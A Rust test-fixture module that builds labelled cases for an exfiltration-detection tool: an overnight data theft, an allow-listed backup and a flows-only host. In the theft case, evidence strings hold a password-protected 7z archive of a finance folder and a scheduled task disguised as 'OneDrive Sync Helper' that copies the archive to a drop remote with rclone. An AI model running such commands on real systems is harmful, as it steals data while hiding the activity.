//! Labelled example cases built from hand-made signals and observations, for tests
//! here and in the sinks (enabled by the `testkit` feature).
//!
//! * [`exfiltration_case`]: an archive, a scheduled rclone and periodic uploads to a
//!   new domain overnight on `ws1`; a second host talks to the same destination and a
//!   packet capture covers the night. Expected: one escalated incident at stage
//!   exfiltration, answers yes / no / yes / yes / yes.
//! * [`backup_case`]: a nightly allow-listed backup from `srv-db` with the same
//!   volume on previous nights. Expected: benign with the allow-list reason.
//! * [`flows_only_case`]: a host seen only in flow records with a volume burst to a
//!   new address. Expected: question 4 unknown, naming the missing telemetry.

use correlate::{DestinationKey, Observations, Observer, Telemetry};
use model::{Config, Networks, RecordRef, Signal, Stage, Timestamp};
use serde_json::json;
use std::net::IpAddr;

/// Tuesday 2026-11-24 01:50:00 UTC: the exfiltration night.
pub const NIGHT: i64 = 1_795_485_000;
/// The exfiltration destination's domain.
pub const DROP_DOMAIN: &str = "upload.drop-zone.example";
/// The exfiltration destination's address.
pub const DROP_IP: &str = "185.199.110.42";
/// The backup destination's domain.
pub const BACKUP_DOMAIN: &str = "backup.example.net";

fn ip(text: &str) -> IpAddr {
    text.parse().unwrap_or(IpAddr::from([0, 0, 0, 0]))
}

fn evidence(value: serde_json::Value) -> serde_json::Map<String, serde_json::Value> {
    value.as_object().cloned().unwrap_or_default()
}

/// A finished signal with its id.
#[allow(clippy::too_many_arguments)]
fn signal(
    detector: &str,
    rule: &str,
    at: i64,
    host: (&str, &str),
    user: Option<&str>,
    stage: Stage,
    score: u8,
    techniques: &[&str],
) -> Signal {
    let mut s = Signal {
        detector: detector.into(),
        rule_id: format!(
            "exfilguard.{detector}.{}",
            rule.to_ascii_lowercase().replace(' ', "_")
        )
        .into(),
        rule_name: rule.into(),
        timestamp: Timestamp::from_secs(at),
        host_name: (!host.0.is_empty()).then(|| host.0.to_string()),
        host_ip: (!host.1.is_empty()).then(|| ip(host.1)),
        user_name: user.map(str::to_string),
        stage,
        techniques: techniques.iter().map(|t| (*t).into()).collect(),
        records: vec![RecordRef {
            file: format!("logs/{detector}.jsonl").into(),
            offset: at as u64 % 100_000,
        }],
        records_total: 1,
        ..Default::default()
    };
    s.set_score(score);
    s.assign_id();
    s
}

fn to_drop(mut s: Signal, bytes: Option<u64>, transfers: Option<u64>) -> Signal {
    s.destination_ip = Some(ip(DROP_IP));
    s.destination_domain = Some(DROP_DOMAIN.into());
    s.destination_port = Some(443);
    s.bytes_out = bytes;
    s.transfers = transfers;
    s.assign_id();
    s
}

/// The volume chart series the volume analytic attaches: 5-minute buckets with
/// baseline and upper band.
fn series(start: i64, bytes: &[u64]) -> serde_json::Value {
    let points: Vec<serde_json::Value> = bytes
        .iter()
        .enumerate()
        .map(|(i, b)| {
            json!({
                "t": Timestamp::from_secs(start + i as i64 * 300).to_rfc3339(),
                "bytes": b,
                "baseline": 40_000,
                "upper": 150_000,
            })
        })
        .collect();
    serde_json::Value::Array(points)
}

/// Signals, observations and config of the exfiltration night.
pub fn exfiltration_case() -> (Vec<Signal>, Observations, Config) {
    let host = ("WS1", "10.1.2.3");
    let user = Some("alice");
    let mut archive = signal(
        "sigma",
        "7-Zip archive of a document folder",
        NIGHT,
        host,
        user,
        Stage::Staging,
        50,
        &["T1560.001"],
    );
    archive.evidence = evidence(
        json!({"command_line": "7z.exe a -p C:\\Users\\alice\\AppData\\Local\\Temp\\q3.7z C:\\Finance"}),
    );
    archive.assign_id();
    let mut task = signal(
        "sigma",
        "Scheduled task runs rclone",
        NIGHT + 300,
        host,
        user,
        Stage::Automation,
        75,
        &["T1053.005"],
    );
    task.evidence = evidence(json!({
        "command_line": "schtasks.exe /create /sc minute /mo 10 /tn \"OneDrive Sync Helper\" /tr \"C:\\Tools\\rclone.exe copy C:\\Users\\alice\\AppData\\Local\\Temp\\q3.7z drop:bucket\""
    }));
    task.assign_id();
    let mut launch = signal(
        "automation",
        "Transfer tool launched by the task scheduler",
        NIGHT + 600,
        host,
        user,
        Stage::Automation,
        70,
        &["T1020", "T1053.005"],
    );
    launch.evidence = evidence(
        json!({"process": "C:\\Tools\\rclone.exe", "parent": "svchost.exe -k netsvcs -s Schedule"}),
    );
    launch.assign_id();
    let mut cadence = to_drop(
        signal(
            "cadence",
            "Regular uploads to one destination",
            NIGHT + 4200,
            host,
            user,
            Stage::Exfiltration,
            65,
            &["T1020"],
        ),
        Some(2_400_000_000),
        Some(7),
    );
    cadence.evidence = evidence(
        json!({"intervals_s": [601, 598, 603, 600, 597, 602], "median_interval_s": 600, "cv": 0.004}),
    );
    let novelty = to_drop(
        signal(
            "novelty",
            "First contact with a destination",
            NIGHT + 600,
            host,
            user,
            Stage::Exfiltration,
            45,
            &["T1567.002"],
        ),
        None,
        None,
    );
    let mut volume = to_drop(
        signal(
            "volume",
            "Outbound burst above baseline",
            NIGHT + 600,
            host,
            user,
            Stage::Exfiltration,
            80,
            &["T1020", "T1030"],
        ),
        Some(2_400_000_000),
        Some(7),
    );
    let bursts = [
        38_000,
        41_000,
        350_000_000,
        340_000_000,
        355_000_000,
        345_000_000,
        36_000,
        352_000_000,
        348_000_000,
        350_000_000,
        39_000,
    ];
    volume.evidence = evidence(
        json!({"baseline_bytes": 40_000, "ratio": 8500.0, "series": series(NIGHT, &bursts)}),
    );
    let offhours = to_drop(
        signal(
            "offhours",
            "Transfer outside business hours",
            NIGHT + 600,
            host,
            user,
            Stage::Exfiltration,
            40,
            &["T1020"],
        ),
        Some(2_400_000_000),
        Some(7),
    );

    let mut observer = Observer::new(Networks::default()).finish();
    let facts = observer.host_facts_mut(Some("ws1"), None);
    facts.addresses.insert(ip(host.1));
    facts.add_telemetry(Telemetry::ProcessExecution, 5400);
    facts.add_telemetry(Telemetry::NetworkFlows, 22_000);
    facts.add_telemetry(Telemetry::FlowBytes, 22_000);
    facts.add_telemetry(Telemetry::Dns, 9000);
    facts.add_user_events("alice", 5300);
    facts.add_user_events("SYSTEM", 100);
    // Five days of ordinary web traffic: the history the burst is measured against.
    for i in 0..240 {
        facts.add_transfer(
            DestinationKey::Ip(ip("142.250.0.10")),
            Timestamp::from_secs(NIGHT - 5 * 86_400 + i * 1800),
            50_000 + (i as u64 % 7) * 1000,
            Some(443),
        );
    }
    for i in 0..7 {
        facts.add_transfer(
            DestinationKey::Ip(ip(DROP_IP)),
            Timestamp::from_secs(NIGHT + 600 + i * 600),
            342_000_000,
            Some(443),
        );
    }
    observer.add_spread(&DestinationKey::Ip(ip(DROP_IP)), "ws1");
    observer.add_spread(&DestinationKey::Ip(ip(DROP_IP)), "ws7");
    observer.add_resolution(DROP_DOMAIN, ip(DROP_IP));
    observer.add_pcap_window(
        "captures/edge-2026-11-24.pcap",
        Timestamp::from_secs(NIGHT - 1800),
        Timestamp::from_secs(NIGHT + 7200),
    );
    let signals = vec![archive, task, launch, cadence, novelty, volume, offhours];
    (signals, observer, Config::default())
}

/// Signals, observations and config of a nightly allow-listed backup.
pub fn backup_case() -> (Vec<Signal>, Observations, Config) {
    let host = ("srv-db", "10.1.2.20");
    let config = Config::from_toml(
        &format!("[[allow]]\ndestination = \"{BACKUP_DOMAIN}\"\nhost = \"10.1.2.0/24\"\nreason = \"nightly offsite backup\"\n"),
        std::path::Path::new("exfilguard.toml"),
    )
    .unwrap_or_default();
    let backup_ip = ip("198.51.100.20");
    let at = NIGHT - 8400; // 23:30 UTC the evening before
    let allowed = |mut s: Signal| {
        s.destination_domain = Some(BACKUP_DOMAIN.into());
        s.destination_ip = Some(backup_ip);
        s.destination_port = Some(443);
        s.allowed = Some("nightly offsite backup".into());
        s.assign_id();
        s
    };
    let mut volume = allowed(signal(
        "volume",
        "Outbound burst above baseline",
        at,
        host,
        Some("svc_backup"),
        Stage::Exfiltration,
        20,
        &["T1020"],
    ));
    volume.bytes_out = Some(52_000_000_000);
    volume.transfers = Some(1);
    volume.evidence = evidence(
        json!({"series": series(at, &[1_000_000, 9_000_000_000, 9_100_000_000, 9_000_000_000, 1_000_000])}),
    );
    let mut cadence = allowed(signal(
        "cadence",
        "Regular uploads to one destination",
        at,
        host,
        Some("svc_backup"),
        Stage::Exfiltration,
        15,
        &["T1020"],
    ));
    cadence.evidence = evidence(json!({"intervals_s": [86_400, 86_390, 86_410, 86_400, 86_405]}));
    let offhours = allowed(signal(
        "offhours",
        "Transfer outside business hours",
        at,
        host,
        Some("svc_backup"),
        Stage::Exfiltration,
        10,
        &["T1020"],
    ));

    let mut observer = Observer::new(Networks::default()).finish();
    let facts = observer.host_facts_mut(Some("srv-db"), None);
    facts.addresses.insert(ip(host.1));
    facts.add_telemetry(Telemetry::ProcessExecution, 900);
    facts.add_telemetry(Telemetry::FlowBytes, 4000);
    facts.add_user_events("svc_backup", 800);
    for night in 1..=6 {
        facts.add_transfer(
            DestinationKey::Ip(backup_ip),
            Timestamp::from_secs(at - night * 86_400),
            50_000_000_000 + night as u64 * 100_000_000,
            Some(443),
        );
    }
    facts.add_transfer(
        DestinationKey::Ip(backup_ip),
        Timestamp::from_secs(at),
        52_000_000_000,
        Some(443),
    );
    // As `analytics::rescore` leaves them: the score before the allow-list lowered it.
    let mut signals = vec![volume, cadence, offhours];
    for (signal, raw) in signals.iter_mut().zip([75u64, 60, 45]) {
        signal.evidence.insert("score_raw".into(), raw.into());
    }
    (signals, observer, config)
}

/// Signals and observations of a host seen only in flow records.
pub fn flows_only_case() -> (Vec<Signal>, Observations, Config) {
    let host = ("", "10.1.9.9");
    let dest = ip("203.0.113.77");
    let mut volume = signal(
        "volume",
        "Outbound burst above baseline",
        NIGHT + 36_000,
        host,
        None,
        Stage::Exfiltration,
        70,
        &["T1020"],
    );
    volume.destination_ip = Some(dest);
    volume.destination_port = Some(8443);
    volume.bytes_out = Some(900_000_000);
    volume.transfers = Some(3);
    volume.assign_id();
    let mut novelty = signal(
        "novelty",
        "First contact with a destination",
        NIGHT + 35_900,
        host,
        None,
        Stage::Exfiltration,
        45,
        &[],
    );
    novelty.destination_ip = Some(dest);
    novelty.assign_id();
    let mut observer = Observer::new(Networks::default()).finish();
    let facts = observer.host_facts_mut(None, Some(ip(host.1)));
    facts.add_telemetry(Telemetry::NetworkFlows, 1200);
    facts.add_telemetry(Telemetry::FlowBytes, 1200);
    facts.add_transfer(
        DestinationKey::Ip(dest),
        Timestamp::from_secs(NIGHT + 36_000),
        900_000_000,
        Some(8443),
    );
    (vec![volume, novelty], observer, Config::default())
}
